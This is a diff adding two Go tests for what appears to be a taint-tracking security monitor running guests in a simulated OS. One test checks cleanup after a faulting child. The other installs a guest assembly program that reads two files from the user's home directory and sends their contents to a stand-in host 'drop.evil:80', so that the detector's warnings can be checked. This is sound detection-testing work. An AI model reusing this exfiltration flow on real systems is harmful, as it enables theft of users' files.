@@ -831,3 +831,144 @@ func TestExecClearsNatSave(t *testing.T) {
 		t.Error("lastApp survived execve")
 	}
 }
+
+// TestFaultDropsPIDState asserts that a guest terminated by a CPU
+// fault (here: divide by zero) — not a clean exit or a kill — still
+// flows through Exited and releases every piece of Harrier's per-PID
+// state. Fault termination is the path chaos-injected failures push
+// guests down most often, so it must not leak monitor state.
+func TestFaultDropsPIDState(t *testing.T) {
+	w := newWorld(t)
+	w.install(t, "/bin/crasher", `
+.text
+_start:
+    mov eax, 2          ; SYS_fork
+    int 0x80
+    cmp eax, 0
+    jz child
+    mov ebx, 0
+    mov ecx, 0
+    mov eax, 7          ; SYS_waitpid (any child)
+    int 0x80
+    mov ebx, 0
+    mov eax, 1          ; SYS_exit
+    int 0x80
+child:
+    mov eax, 1
+    div eax, 0          ; fault: divide by zero
+`)
+	p := w.run(t, vos.ProcSpec{Path: "/bin/crasher"})
+	if p.Fault != nil {
+		t.Fatalf("parent faulted: %v", p.Fault)
+	}
+	if n := len(w.h.lastApp); n != 0 {
+		t.Errorf("lastApp leaked %d entries after faulting child", n)
+	}
+	if n := len(w.h.natSave); n != 0 {
+		t.Errorf("natSave leaked %d entries after faulting child", n)
+	}
+	if w.h.appCachePID != -1 {
+		t.Errorf("appCache still points at PID %d", w.h.appCachePID)
+	}
+}
+
+// TestTagWidthBudgetKeepsWarnings is the degradation soundness check:
+// under an aggressively small tag width budget the taint sets collapse
+// to per-type wide sources, yet every warning the unbudgeted run
+// raises is still raised — degradation over-approximates (it may add
+// warnings by failing trusted-name filters open) but never loses one.
+func TestTagWidthBudgetKeepsWarnings(t *testing.T) {
+	runIt := func(budget int) ([]secpert.Warning, Stats) {
+		os := vos.New(vos.Options{})
+		guestlib.InstallInto(os)
+		sec := secpert.New(secpert.DefaultConfig(), nil)
+		cfg := DefaultConfig()
+		cfg.TagWidthBudget = budget
+		h := New(cfg, sec)
+		w := &world{os: os, h: h, sec: sec}
+		w.os.FS.Create("/home/me/notes", []byte("hell"))
+		w.os.FS.Create("/home/me/more", []byte("o wo"))
+		w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
+			return sendNameScript{name: ""}
+		})
+		// Reads two files into adjacent halves of one buffer and sends
+		// all eight bytes: the send event's tag is the union of two
+		// FILE sources, wide enough to trip a budget of one.
+		w.install(t, "/bin/prog", `
+.text
+_start:
+    mov esi, [esp+4]
+    mov ebx, [esi+4]    ; argv[1]: the first file name
+    mov ecx, 0
+    mov eax, 5
+    int 0x80
+    mov ebx, eax
+    mov ecx, buf
+    mov edx, 4
+    mov eax, 3
+    int 0x80
+    mov ebx, path2
+    mov ecx, 0
+    mov eax, 5
+    int 0x80
+    mov ebx, eax
+    mov ecx, buf2
+    mov edx, 4
+    mov eax, 3
+    int 0x80
+    mov eax, 102
+    mov ebx, 1
+    mov ecx, scargs
+    int 0x80
+    mov [scargs], eax
+    mov [scargs+4], addr
+    mov eax, 102
+    mov ebx, 3
+    mov ecx, scargs
+    int 0x80
+    mov [scargs+4], buf
+    mov [scargs+8], 8
+    mov eax, 102
+    mov ebx, 9
+    mov ecx, scargs
+    int 0x80
+    hlt
+.data
+addr:   .asciz "drop.evil:80"
+path2:  .asciz "/home/me/more"
+buf:    .space 4
+buf2:   .space 4
+scargs: .space 12
+`)
+		w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/home/me/notes"}})
+		return w.warnings(), h.Stats()
+	}
+
+	base, baseStats := runIt(0)
+	tight, tightStats := runIt(1)
+	if len(base) == 0 {
+		t.Fatal("baseline run raised no warnings")
+	}
+	if baseStats.TaintWideUnions != 0 {
+		t.Error("unbudgeted run degraded sets")
+	}
+	if tightStats.TaintWideUnions == 0 {
+		t.Error("budget-1 run never degraded a set")
+	}
+	// Bounded width: with budget 1 every interned set holds at most
+	// one source per type; the store cannot intern the long mixed
+	// sets the baseline does.
+	if tightStats.TaintSets > baseStats.TaintSets {
+		t.Errorf("budgeted run interned more sets (%d) than baseline (%d)",
+			tightStats.TaintSets, baseStats.TaintSets)
+	}
+	for _, bw := range base {
+		found := false
+		for _, tw := range tight {
+			found = found || tw.Rule == bw.Rule
+		}
+		if !found {
+			t.Errorf("warning from rule %q lost under width budget", bw.Rule)
+		}
+	}
+}
